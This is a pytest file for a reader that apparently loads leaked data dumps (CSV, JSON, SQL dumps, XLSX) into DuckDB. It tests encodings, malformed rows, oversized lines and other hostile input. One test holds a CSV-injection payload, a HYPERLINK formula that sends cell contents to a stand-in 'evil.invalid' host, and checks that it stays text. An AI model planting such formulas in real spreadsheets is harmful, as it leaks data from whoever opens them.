"""Reading what really circulates, and surviving what is hostile."""

from __future__ import annotations

import json
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from vigie.errors import InvalidInput
from vigie.leaks import sources
from vigie.leaks.sources import Reader

ROWS = [
    ["Dupré", "Zoë", "12/03/1990", "06 12 34 56 78", "zoe.dupre@example.org"],
    ["N'Diaye", "Aïssatou", "01/02/1985", "+33 7 11 22 33 44", "a.ndiaye@mail.example"],
    ["Œuvray", "Hélène", "1999-12-31", "0033612345679", "h.oeuvray@example.org"],
]
HEADER = ["Nom", "Prénom", "date_naiss", "tel", "courriel"]


def _read(
    tmp_path: Path, path: Path, *, max_line: int = sources.MAX_LINE_CHARS
) -> tuple[Reader, list[list[str | None]]]:
    con = duckdb.connect()
    reader = Reader(con, tmp_path, max_line=max_line)
    found = reader.read(path)
    assert len(found) == 1
    src = found[0]
    cols = ", ".join(f"c{i}" for i in range(len(src.headers)))
    rows = [
        list(r) for r in con.execute(f"SELECT {cols} FROM {src.table} ORDER BY _line").fetchall()
    ]
    return reader, rows


def _csv(rows: list[list[str]], delimiter: str, quote_all: bool = False) -> str:
    def cell(v: str) -> str:
        if quote_all or delimiter in v or '"' in v:
            return '"' + v.replace('"', '""') + '"'
        return v

    return "".join(delimiter.join(cell(v) for v in row) + "\r\n" for row in rows)


@pytest.mark.parametrize("delimiter", [";", ",", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "latin-1"])
def test_csv_any_delimiter_and_encoding(tmp_path: Path, delimiter: str, encoding: str) -> None:
    rows = ROWS if encoding != "latin-1" else [[v.replace("Œ", "Oe") for v in r] for r in ROWS]
    path = tmp_path / "dump.csv"
    path.write_bytes(_csv([HEADER, *rows], delimiter).encode(encoding))
    reader, got = _read(tmp_path, path)
    assert got == rows
    assert reader.sources[0].headers == HEADER
    assert reader.rejected.count == 0


def test_csv_quoted_fields_with_delimiters_and_newlines(tmp_path: Path) -> None:
    rows = [["Dupont; Jean", 'il a dit "oui"', "ligne\nsuivante", "x", "y"]]
    path = tmp_path / "q.csv"
    path.write_text(_csv([HEADER, *rows], ";", quote_all=True), encoding="utf-8")
    _reader, got = _read(tmp_path, path)
    assert got == rows


def test_mojibake_is_repaired(tmp_path: Path) -> None:
    text = _csv([HEADER, *ROWS], ";")
    path = tmp_path / "moji.csv"
    path.write_bytes(text.encode("utf-8").decode("cp1252", errors="replace").encode("utf-8"))
    _reader, got = _read(tmp_path, path)
    assert got[0][1] == "Zoë" and got[2][1] == "Hélène"


def test_rows_that_do_not_parse_are_counted_and_sampled(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text("a;b;c\n1;2;3\n4;5\n6;7;8;9\n10;11;12\n", encoding="utf-8")
    reader, got = _read(tmp_path, path)
    assert got == [["1", "2", "3"], ["10", "11", "12"]]
    assert reader.rejected.count == 2
    assert [s["line"] for s in reader.rejected.samples] == [3, 4]
    lines = reader.con.execute(f"SELECT _line FROM {reader.sources[0].table} ORDER BY 1")
    assert [r[0] for r in lines.fetchall()] == [2, 5]


def test_a_line_missing_several_columns_is_one_rejected_row(tmp_path: Path) -> None:
    # DuckDB records one error per missing column; the line is still one row (it was
    # counted once per missing column: 4 times here).
    head = "nom;prenom;courriel;date_naiss;tel;ville"
    good = [f"Nom{i};Pre{i};p{i}@example.org;01/02/1990;0612345678;Lyon" for i in range(40)]
    path = tmp_path / "one_bad.csv"
    path.write_text("\n".join([head, *good[:20], "bad;line", *good[20:]]) + "\n")
    reader, got = _read(tmp_path, path)
    assert len(got) == 40
    assert reader.rejected.count == 1
    assert [(s["line"], s["reason"]) for s in reader.rejected.samples] == [(22, "missing columns")]
    lines = reader.con.execute(f"SELECT _line FROM {reader.sources[0].table} ORDER BY 1")
    assert [r[0] for r in lines.fetchall()] == [*range(2, 22), *range(23, 43)]


def test_a_quote_never_closed_does_not_lose_the_rest_of_the_file_silently(
    tmp_path: Path,
) -> None:
    # DuckDB's reader takes the rest of the file into the open quote and does not
    # resume: the lines after it were lost without a count.
    head = "nom;prenom;courriel"
    good = [f"Nom{i};Pre{i};p{i}@example.org" for i in range(10)]
    path = tmp_path / "quote.csv"
    path.write_text("\n".join([head, *good[:4], 'x;"never closed;z', *good[4:]]) + "\n")
    reader, got = _read(tmp_path, path)
    assert got == [g.split(";") for g in good[:4]]
    # Every line is a row read or a row rejected: 4 + 1 + the 6 after the quote.
    assert len(got) + reader.rejected.count == 11
    assert [s["line"] for s in reader.rejected.samples] == [6, 6]
    assert "the 6 lines after it were not read" in reader.rejected.samples[1]["reason"]


def test_rows_read_past_a_bad_quote_are_not_counted_as_lost(tmp_path: Path) -> None:
    path = tmp_path / "ok.csv"
    path.write_text('nom;prenom\n"a";"b"c"\nDupont;Jean\n"Martin";"L\nea"\n')
    reader, got = _read(tmp_path, path)
    assert got == [["Dupont", "Jean"], ["Martin", "L\nea"]]
    assert reader.rejected.count == 1
    # A bad last line followed by blank lines: nothing was lost after it.
    path = tmp_path / "blank.csv"
    path.write_text("nom;prenom;x\n1;2;3\nbad\n\n\n")
    reader, got = _read(tmp_path, path)
    assert got == [["1", "2", "3"]]
    assert reader.rejected.count == 1


def test_headerless_csv_is_typed_by_position(tmp_path: Path) -> None:
    path = tmp_path / "nohead.csv"
    path.write_text(_csv(ROWS, ";"), encoding="utf-8")
    reader, got = _read(tmp_path, path)
    assert got == ROWS
    assert reader.sources[0].headers[0] == "column 1"


def test_json_array_object_and_lines(tmp_path: Path) -> None:
    records = [dict(zip(HEADER, r, strict=True)) for r in ROWS]
    for name, text in [
        ("a.json", json.dumps(records, ensure_ascii=False)),
        ("b.json", json.dumps({"meta": 1, "data": records}, ensure_ascii=False)),
        ("c.jsonl", "\n".join(json.dumps(r, ensure_ascii=False) for r in records) + "\n{oops\n"),
    ]:
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        reader, got = _read(tmp_path, path)
        assert got == ROWS, name
        assert reader.rejected.count == (1 if name == "c.jsonl" else 0)


def test_mysqldump_inserts(tmp_path: Path) -> None:
    dump = """-- MySQL dump
CREATE TABLE `beneficiaires` (
  `id` int NOT NULL,
  `nom` varchar(100) DEFAULT NULL,
  `prenom` varchar(100),
  `courriel` varchar(254),
  PRIMARY KEY (`id`)
) ENGINE=InnoDB;
INSERT INTO `beneficiaires` VALUES (1,'Dupr\\'e','Zoë','zoe@example.org'),
(2,'N''Diaye',NULL,'a@example.org');
INSERT INTO `beneficiaires` VALUES (3,'Broken','x'
"""
    path = tmp_path / "dump.sql"
    path.write_text(dump, encoding="utf-8")
    reader, got = _read(tmp_path, path)
    assert reader.sources[0].headers == ["id", "nom", "prenom", "courriel"]
    assert got == [
        ["1", "Dupr'e", "Zoë", "zoe@example.org"],
        ["2", "N'Diaye", None, "a@example.org"],
    ]
    assert reader.rejected.count == 1


def test_pg_dump_copy_block(tmp_path: Path) -> None:
    dump = (
        "COPY public.people (nom, prenom, tel) FROM stdin;\n"
        "Dupont\tJean\t06 12 34 56 78\n"
        "Martin\t\\N\t+33 7 00 00 00 01\n"
        "\\.\n"
        "INSERT INTO public.other (a, b) VALUES ('x', 'y');\n"
    )
    path = tmp_path / "pg.sql"
    path.write_text(dump, encoding="utf-8")
    con = duckdb.connect()
    reader = Reader(con, tmp_path)
    found = reader.read(path)
    assert [s.name for s in found] == ["pg.sql:people", "pg.sql:other"]  # the dump's order
    people = found[0]
    assert con.execute(f"SELECT c0, c1, c2 FROM {people.table} ORDER BY _line").fetchall() == [
        ("Dupont", "Jean", "06 12 34 56 78"),
        ("Martin", None, "+33 7 00 00 00 01"),
    ]


def test_xlsx(tmp_path: Path) -> None:
    import datetime as dt

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append(["Dupré", "Zoë", dt.date(1990, 3, 12), "06 12 34 56 78", "zoe@example.org"])
    sheet.append(["Martin", "Léa", dt.datetime(1985, 2, 1), 612345678, "lea@example.org"])
    path = tmp_path / "dump.xlsx"
    book.save(path)
    _reader, got = _read(tmp_path, path)
    assert got == [
        ["Dupré", "Zoë", "1990-03-12", "06 12 34 56 78", "zoe@example.org"],
        ["Martin", "Léa", "1985-02-01", "612345678", "lea@example.org"],
    ]


# -- hostile input -------------------------------------------------------------------------


def test_binary_junk_is_refused_clearly(tmp_path: Path) -> None:
    path = tmp_path / "junk.csv"
    path.write_bytes(bytes(range(256)) * 64)
    with pytest.raises(InvalidInput, match=r"junk\.csv: not a text"):
        Reader(duckdb.connect(), tmp_path).read(path)


def test_fake_xlsx_is_refused_clearly(tmp_path: Path) -> None:
    path = tmp_path / "fake.xlsx"
    path.write_bytes(b"PK\x03\x04" + b"\x00garbage" * 100)
    with pytest.raises(InvalidInput, match=r"fake\.xlsx: not a readable XLSX"):
        Reader(duckdb.connect(), tmp_path).read(path)


def test_empty_and_missing_files(tmp_path: Path) -> None:
    (tmp_path / "empty.csv").write_bytes(b"  \n")
    with pytest.raises(InvalidInput, match="empty"):
        Reader(duckdb.connect(), tmp_path).read(tmp_path / "empty.csv")
    with pytest.raises(InvalidInput, match="no such file"):
        Reader(duckdb.connect(), tmp_path).read(tmp_path / "absent.csv")


def test_invalid_json_says_where(tmp_path: Path) -> None:
    path = tmp_path / "bad.json"
    path.write_text('[{"a": 1},\n {"a": }]', encoding="utf-8")
    with pytest.raises(
        InvalidInput, match=r"bad\.json: invalid JSON near line 2 \(after record 1\)"
    ):
        Reader(duckdb.connect(), tmp_path).read(path)


def test_giant_line_is_rejected_with_bounded_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Small limits so the test is fast; the logic is the same as for a 1 GB line.
    monkeypatch.setattr(sources, "CHUNK_BYTES", 4096)
    path = tmp_path / "long.csv"
    with path.open("w", encoding="utf-8") as f:
        f.write("nom;prenom\nDupont;Jean\n")
        f.write("x" * 100_000 + "\n")
        f.write("Martin;Léa\n")
    reader, got = _read(tmp_path, path, max_line=10_000)
    assert got == [["Dupont", "Jean"], ["Martin", "Léa"]]
    assert reader.rejected.count == 1
    assert "longer than" in reader.rejected.samples[0]["reason"]
    assert len(reader.rejected.samples[0]["excerpt"]) <= sources.EXCERPT_CHARS


@pytest.mark.parametrize("lines", [1, 3])
def test_a_file_of_nothing_but_giant_lines_stops_with_a_clear_message(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lines: int
) -> None:
    # A single 2 GB line, in small: no line fits, nothing is kept, the message says why.
    monkeypatch.setattr(sources, "CHUNK_BYTES", 4096)
    path = tmp_path / "one_line.csv"
    path.write_text("\n".join(["Dupont;Jean;" * 5_000] * lines), encoding="utf-8")
    reader = Reader(duckdb.connect(), tmp_path, max_line=10_000)
    said = "its only line is" if lines == 1 else f"all its {lines} lines are"
    with pytest.raises(InvalidInput, match=f"one_line.csv: {said} longer than 10000 characters"):
        reader.read(path)
    assert reader.rejected.count == lines
    assert not list(tmp_path.glob("work*.csv"))  # the working copy is gone


def test_csv_injection_payloads_are_kept_as_text(tmp_path: Path) -> None:
    payload = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
    path = tmp_path / "inj.csv"
    path.write_text(_csv([["nom", "prenom"], [payload, "@SUM(1+1)"]], ";"), encoding="utf-8")
    _reader, got = _read(tmp_path, path)
    assert got == [[payload, "@SUM(1+1)"]]


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ab\n", max_size=80), st.integers(min_value=1, max_value=12))
def test_the_line_length_shortcut_never_misses_a_long_line(text: str, limit: int) -> None:
    if sources._lines_fit(text, limit):
        assert max(len(line) for line in text.split("\n")) <= limit


def test_chunk_size_changes_nothing_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Long lines, rejected rows, mojibake, CRLF and a last line without newline read the
    same — rows, line numbers, rejections — whatever the chunks the file is cut into."""
    lines = ["nom;prenom;ville"]
    for i in range(400):
        kind = i % 37
        if kind == 5:
            lines.append("x" * (1_001 + 13 * i))  # too long
        elif kind == 9:
            lines.append("a;b")  # two fields for three columns
        elif kind == 11:
            lines.append("Ã‰lodie;MÃ¼ller;Paris")  # UTF-8 read as cp1252
        else:
            lines.append(f"Nom{i};Prénom{i};Ville â{i}")
    path = tmp_path / "mixed.csv"
    path.write_bytes(("\r\n".join(lines) + "\r\n" + "y" * 1500).encode("cp1252"))
    seen = []
    for chunk in (300, 1_000, 4_096, 1 << 20):
        monkeypatch.setattr(sources, "CHUNK_BYTES", chunk)
        con = duckdb.connect()
        reader = Reader(con, tmp_path, max_line=1_000)
        (src,) = reader.read(path)
        rows = con.execute(f"SELECT _line, c0, c1, c2 FROM {src.table} ORDER BY _line").fetchall()
        seen.append((rows, reader.rejected.count, reader.rejected.samples))
        con.close()
    assert all(s == seen[0] for s in seen)
    rows, rejected, samples = seen[0]
    assert rows[0] == (2, "Nom0", "Prénom0", "Ville â0")
    assert (13, "Élodie", "Müller", "Paris") in rows  # row 11 on line 13, repaired
    assert (45, "Nom43", "Prénom43", "Ville â43") in rows  # after the long line 44
    # Every rejected line by its number in the file, the cut ones as DuckDB's own.
    expected = sorted(
        [i + 2 for i in range(400) if i % 37 in (5, 9)] + [402]  # 402: the last line
    )
    assert rejected == len(expected)
    lines_sampled = [s["line"] for s in samples]
    assert len(lines_sampled) == sources.REJECT_SAMPLES and set(lines_sampled) <= set(expected)
    assert 48 in lines_sampled  # DuckDB's rejection after the cut line 44, numbered right
    assert all(("a;b" in s["excerpt"]) == ((s["line"] - 2) % 37 == 9) for s in samples)
